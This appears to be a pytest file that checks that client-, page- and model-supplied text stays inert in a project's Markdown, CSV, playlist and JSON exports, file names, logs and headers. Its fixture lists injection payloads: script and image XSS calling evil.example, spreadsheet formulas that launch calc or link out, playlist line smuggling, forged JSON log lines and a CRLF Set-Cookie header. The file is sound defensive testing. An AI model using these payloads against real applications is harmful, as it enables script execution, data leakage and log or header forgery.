"""Texts of clients, pages and models in what others read: exports, headers, log lines. They stay texts."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

from tailrace.exports import export, formats
from tailrace.fold import fold
from tailrace.http import app
from tailrace.kinds.code.checks import STAGES
from tests.integration.api_client import Aws, deployed
from tests.unit.code_projects import judge, project
from tests.unit.code_runs import WRITTEN, log, validated
from tests.unit.plan_days import meal
from tests.unit.plan_logs import lines, wanted
from tests.unit.plan_logs import log as plan_log
from tests.unit.test_playlist_export import VIDEO, position
from tests.unit.test_playlist_export import snapshot as playlist
from tests.unit.test_vision_export import snapshot as vision
from tests.unit.test_vision_fold import whole

# What an attacker would have a reader of an export run, open or believe; one name each.
HOSTILE = {
    "a script": "<script>fetch('//evil.example')</script>",
    "an image's error": '<img src=x onerror="alert(1)">',
    "the end of a script": "</script><script>alert(1)</script>",
    "a comment that never ends": "<!--",
    "a link that runs": "[click](javascript:alert(1))",
    "an image that tells": "![x](https://evil.example/?leak)",
    "a reference": "[x]: https://evil.example",
    "an address between marks": "<https://evil.example>",
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with a plus": '+HYPERLINK("https://evil.example","x")',
    "a formula with an at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a wide equals sign": "＝1+1",  # noqa: RUF001 - some spreadsheets take it for one
    "a second line": "x\n#EXTINF:1,y\nhttps://evil.example/x.mp3",
    "a second line by a separator": "x\u2028https://evil.example/x.mp3",
    "a carriage return": "x\rhttps://evil.example/x.mp3",
    "a table's bar": "a | b\n|---|---|\n| c | d |",
    "a heading": "x\n# Approved by the board",
    "a fence": "```\n~~~",
    "an entity": "&lt;b&gt; &#x3c;b&#x3e;",
    "the other direction": "\u202eevil",
}
PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")
ACTIVE = {"html_block", "html_inline", "link_open", "image", "fence", "code_block"}


def _active(text: str) -> list[str]:
    """What a reader of this Markdown would be given beside text, headings, lists and tables."""
    tokens = PARSER.parse(text)
    inner = [child for token in tokens for child in token.children or ()]
    return [token.type for token in (*tokens, *inner) if token.type in ACTIVE]


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def text(request: pytest.FixtureRequest) -> str:
    found: str = request.param
    return found


def test_a_plan_as_markdown(text: str) -> None:
    odd = [
        meal(slot, name=text, steps=[text], ingredients=[{"amount": "1", "name": text}])
        for slot in ("breakfast", "lunch", "dinner")
    ]
    snapshot = fold(plan_log(lines(wanted(), spoilt={1: {"meals": odd}})))
    snapshot["parts"]["title"] = text
    assert _active(export(snapshot, "md").content.decode()) == []


def test_a_vision_as_markdown(text: str) -> None:
    bets = [{"bet": text, "owner": text, "horizon": text, "measure": text}]
    snapshot = vision(whole(), strategy=[text], near_term_bets=bets, tensions=[text], one_pager=f"# x\n\n{text}")
    snapshot["parts"]["company"] = text
    assert _active(export(snapshot, "md").content.decode()) == []


def test_a_projects_notes_as_markdown(text: str) -> None:
    stages = validated("check", "syntax", "fail", "server.js")
    snapshot = fold(log(*WRITTEN, stages))
    snapshot["parts"]["validation"][0]["message"] = text
    snapshot["parts"]["summary"] = text
    with zipfile.ZipFile(io.BytesIO(export(snapshot, None).content)) as archive:
        (notes,) = (name for name in archive.namelist() if name.endswith("TAILRACE.md"))
        assert re.fullmatch(r"[a-z0-9-]+/TAILRACE\.md", notes)
        assert _active(archive.read(notes).decode()) == []


def test_a_playlist_as_a_table(text: str) -> None:
    snapshot = playlist(position(0, {**VIDEO, "title": text}, artist=text, title=text, reason=text, warnings=[text]))
    table = export(snapshot, "csv").content.decode()
    rows = list(csv.reader(io.StringIO(table, newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not [cell for cell in rows[1] if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]  # noqa: RUF001


def test_a_playlist_for_players(text: str) -> None:
    snapshot = playlist(position(0, VIDEO, artist=text, title=text), position(1, None, title=text), prompt=text)
    written = export(snapshot, "m3u").content.decode()
    entries = [line for line in written.splitlines() if not line.startswith("#")]
    assert entries == [VIDEO["url"]]


def test_what_is_json_comes_back_as_it_was(text: str) -> None:
    snapshot = playlist(position(0, None, artist=text, title=text), prompt=text)
    read = json.loads(export(snapshot, "json").content)
    assert read["tracks"][0]["track"]["artist"] == read["input"]["prompt"] == text


def test_a_file_is_named_by_its_run_alone(text: str) -> None:
    """Nothing that a client or a model wrote is in a header."""
    snapshot = playlist(position(0, None, title=text), prompt=text, status="failed")
    for name in formats("playlist"):
        assert re.fullmatch(r"playlist-[0-9a-z]{26}-partial\.[a-z0-9]+", export(snapshot, name).filename)


def test_findings_about_a_file_are_plain_lines(text: str) -> None:
    """They are in events, in the snapshot, in the notes of the zip and in the prompt of the repair."""
    for framework, names in (("express", ["src/server.js", "package.json"]), ("fastapi", ["main.py", "openapi.yaml"])):
        hostile = project(framework, dict.fromkeys(names, f"import {text}\nconst a = require('{text}')"))
        for stage in STAGES:
            verdict = judge(stage, hostile)
            for told in (verdict.message, *(finding.message for finding in verdict.findings)):
                assert len(told) < 2000
                assert "\x1b" not in told


@pytest.fixture(scope="module")
def aws() -> Iterator[Aws]:
    with pytest.MonkeyPatch.context() as patch, deployed(patch) as found:
        yield found


@pytest.fixture
def said(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """What the API's function writes to its log."""
    written = io.StringIO()
    monkeypatch.setattr(app.logger.registered_handler, "stream", written)
    return written


FORGED = '\n{"level":"INFO","message":"answered","status":200}'


@pytest.mark.parametrize(
    ("target", "headers"),
    [
        (f"/v1/runs{FORGED}", {}),
        (f"/v1/runs/x{FORGED}", {}),
        (f"/v1/runs?kind={quote(FORGED)}", {}),
        ("/v1/runs", {"X-Request-Id": f"a{FORGED}"}),
        ("/v1/runs", {"X-Request-Id": "a\r\nSet-Cookie: a=b"}),
        ("/v1/runs", {"Authorization": f"Bearer a{FORGED}"}),
        ("/v1/runs", {"Host": f"a{FORGED}"}),
        ("/v1/runs\x1b[2J", {}),
    ],
)
def test_nobody_writes_a_line_of_the_log(aws: Aws, said: io.StringIO, target: str, headers: dict[str, str]) -> None:
    answer = aws.client().send("GET", target, headers=headers)
    records: list[Any] = [json.loads(line) for line in said.getvalue().splitlines()]
    assert [record["status"] for record in records if record["message"] == "answered"] == [answer.status]
    assert all("\n" not in value and "\r" not in value for value in answer.headers.values())


def test_a_runs_metadata_and_prompt_are_not_logged(aws: Aws, said: io.StringIO) -> None:
    aws.client().start(
        input={"prompt": "the-clients-own-words"}, options={"metadata": {"note": "the-clients-own-note"}}
    )
    assert '"answered"' in said.getvalue()
    assert "the-clients-own" not in said.getvalue()
